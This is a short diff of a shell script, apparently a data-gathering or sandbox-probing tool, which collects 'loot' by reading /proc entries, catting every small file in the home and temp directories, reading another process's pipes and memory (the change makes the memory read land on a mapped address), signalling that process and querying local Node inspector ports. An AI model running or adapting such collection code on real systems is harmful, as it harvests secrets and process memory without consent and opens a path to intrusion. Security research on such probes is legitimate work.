@@ -41,7 +41,8 @@ for process in /proc/[0-9]*; do
 done > "$loot/proc"
 find . ~ "$temp" -type f -size -1000k -exec cat {} + > "$loot/files"
 for file in /proc/$gateway/fd/*; do timeout 0.2 head -c 65536 "$file"; done > "$loot/pipes"
-head -c 1 /proc/$gateway/mem > "$loot/mem"
+address=$((0x$(head -n 1 /proc/$gateway/maps | cut -d- -f1)))
+dd if=/proc/$gateway/mem bs=4 count=1 skip=$address iflag=skip_bytes of="$loot/mem"
 kill -USR1 $gateway
 sleep 0.3
 for tcp in 9229 9230; do curl -s -m 1 http://127.0.0.1:$tcp/json/list; done > "$loot/inspector"
